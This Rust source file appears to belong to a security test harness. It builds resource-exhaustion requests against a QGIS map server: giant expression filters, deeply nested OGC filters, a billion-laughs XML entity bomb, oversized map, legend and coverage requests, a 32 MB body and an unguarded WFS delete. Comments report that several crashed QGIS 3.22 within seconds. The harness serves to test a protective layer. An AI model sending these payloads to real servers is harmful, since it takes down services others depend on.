//! Requests that hang or crash a QGIS process. Sent last, and only some of them to the unguarded server, since each makes it
//! restart.

use super::super::{
    attack::{Attack, Holder},
    fixture::{Fixture, MAP},
    probe::{Coverage, Parameters, Probe, spelled},
    request::Request,
};

const FAMILY: &str = "exhaustion";
const FEATURES: &str = "SERVICE=WFS&REQUEST=GetFeature&TYPENAME=places";

/// Requests that hang or crash a process. The first eight did so within seconds on QGIS 3.22.
pub(crate) fn exhaustion(fixture: &Fixture) -> Vec<Attack> {
    let mut attacks = vec![
        filter(
            "a filter of a box alone in And",
            "<And><BBOX><PropertyName>geometry</PropertyName><gml:Box><gml:coordinates>0,0 1,1</gml:coordinates></gml:Box></BBOX></And>",
        ),
        filter(
            "Equals of a geometry",
            "<Equals><PropertyName>geometry</PropertyName><gml:Point><gml:coordinates>0,0</gml:coordinates></gml:Point></Equals>",
        ),
        expression("20,000 terms", &format!("{}>0", vec!["1"; 20_000].join("+"))),
        expression("a text of 2 GB", "rpad('a',2147483647,'b')='a'"),
        unknown_property(),
        expression("a circle of 30,000,000 points", "num_points(make_circle(make_point(0,0),1,30000000))>0"),
        coverage(20_000),
        keyed_deletion(),
        expression("a text of 500 MB", "lpad('a',500000000,'b')='a'"),
        expression(
            "a polygon of 20,000,000 corners",
            "num_points(make_regular_polygon(make_point(0,0),make_point(1,1),20000000,0))>0",
        ),
        expression(
            "nested growth",
            "length(replace(replace(replace(rpad('a',999,'a'),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')))>0",
        ),
        expression(
            "a series of a million",
            "array_length(array_foreach(generate_series(1,3000000),@element))>0",
        ),
        expression("deep brackets", &format!("{}1{}", "(".repeat(20_000), ")".repeat(20_000))),
        expression("many NOTs", &format!("{}true", "NOT ".repeat(20_000))),
        filter(
            "deep NOTs",
            &format!(
                "{}<PropertyIsNull><PropertyName>num</PropertyName></PropertyIsNull>{}",
                "<Not>".repeat(9_000),
                "</Not>".repeat(9_000)
            ),
        ),
        body(32 << 20),
        entities(),
    ];
    attacks.extend(spelled(&pictures(), &fixture.alpha, Coverage::Sample(1)));
    attacks
}

fn expression(what: &str, expression: &str) -> Attack {
    let form = format!("{FEATURES}&EXP_FILTER={}", super::super::fixture::encoded(expression));
    let request = Request::new("POST", "/pozi/ows/alpha/").body("application/x-www-form-urlencoded", form);
    Attack::new(FAMILY, what, request)
}

fn filter(what: &str, inside: &str) -> Attack {
    let body = format!(
        "<GetFeature service=\"WFS\" version=\"1.0.0\" xmlns:gml=\"http://www.opengis.net/gml\"><Query typeName=\"places\"><Filter xmlns=\"http://www.opengis.net/ogc\">{inside}</Filter></Query></GetFeature>"
    );
    Attack::new(FAMILY, what, Request::new("POST", "/pozi/ows/alpha/?SERVICE=WFS").body("text/xml", body))
}

fn unknown_property() -> Attack {
    let body = "<Transaction service=\"WFS\" version=\"1.0.0\"><Insert><places><Last_Checked>2026-01-01</Last_Checked><unheard>x</unheard></places></Insert></Transaction>";
    let request = Request::new("POST", "/pozi/ows/alpha/?SERVICE=WFS").body("text/xml", body);
    Attack::new(FAMILY, "an insert of an unknown property", request).held_by(Holder::Writer)
}

fn coverage(size: u32) -> Attack {
    let query = format!(
        "SERVICE=WCS&VERSION=1.0.0&REQUEST=GetCoverage&COVERAGE=dem&CRS=EPSG:3857&BBOX=0,0,1000,1000&WIDTH={size}&HEIGHT={size}"
    );
    Attack::new(FAMILY, "a large coverage", Request::new("GET", &format!("/pozi/ows/alpha/?{query}")))
}

fn keyed_deletion() -> Attack {
    let query = "SERVICE=WFS&REQUEST=Transaction&OPERATION=Delete&TYPENAME=places&FEATUREID=places.1";
    let request = Request::new("GET", &format!("/pozi/ows/alpha/?{query}"));
    Attack::new(FAMILY, "a deletion by key and id", request)
}

fn body(size: usize) -> Attack {
    let filter = "<PropertyIsNull><PropertyName>num</PropertyName></PropertyIsNull>";
    let body = format!(
        "<GetFeature service=\"WFS\" version=\"1.0.0\"><Query typeName=\"places\"><Filter><Or>{}</Or></Filter></Query></GetFeature>",
        filter.repeat(size / filter.len())
    );
    Attack::new(
        FAMILY,
        "a body of 32 MB",
        Request::new("POST", "/pozi/ows/alpha/?SERVICE=WFS").body("text/xml", body),
    )
}

fn entities() -> Attack {
    let level = |n: u32| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10));
    let levels: String = (1..9).map(level).collect();
    let body = format!(
        "<!DOCTYPE a [<!ENTITY e0 \"lol\">{levels}]><GetFeature service=\"WFS\"><Query typeName=\"&e8;\"/></GetFeature>"
    );
    Attack::new(
        FAMILY,
        "entities of entities",
        Request::new("POST", "/pozi/ows/alpha/?SERVICE=WFS").body("text/xml", body),
    )
}

/// Maps, legends and prints that are too large.
fn pictures() -> Vec<Probe> {
    let one = |name: &str, value: &str| -> Parameters { vec![(name.into(), value.into())] };
    let sized = |width: &str, height: &str| [one("WIDTH", width), one("HEIGHT", height)].concat();
    let legend = "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetLegendGraphic&LAYER=places&FORMAT=image/png";
    let map = MAP.replace("&WIDTH=20&HEIGHT=20", "");
    let layers = vec!["places"; 3_000].join(",");
    let probe = |what: &str, usual: &str, hostile| Probe::new(FAMILY, what, usual, hostile);
    vec![
        probe("a map of 30,000 squared", &map, sized("30000", "30000")),
        probe("a map of 20,000 squared", &map, sized("20000", "20000")),
        probe("a map of 1 by 1,000,000", &map, sized("1", "1000000")),
        probe("a legend of 20,000 mm", legend, one("SYMBOLWIDTH", "20000")),
        probe("a legend with large text", legend, one("ITEMFONTSIZE", "5000")),
        probe("a legend of 20,000 DPI", legend, one("DPI", "20000")),
        probe("a map of 20,000 DPI", MAP, one("DPI", "20000")),
        probe("3,000 layers", MAP.trim_end_matches("&LAYERS=places"), one("LAYERS", &layers)),
        probe("unlimited features", FEATURES, one("MAXFEATURES", "-1")),
    ]
}
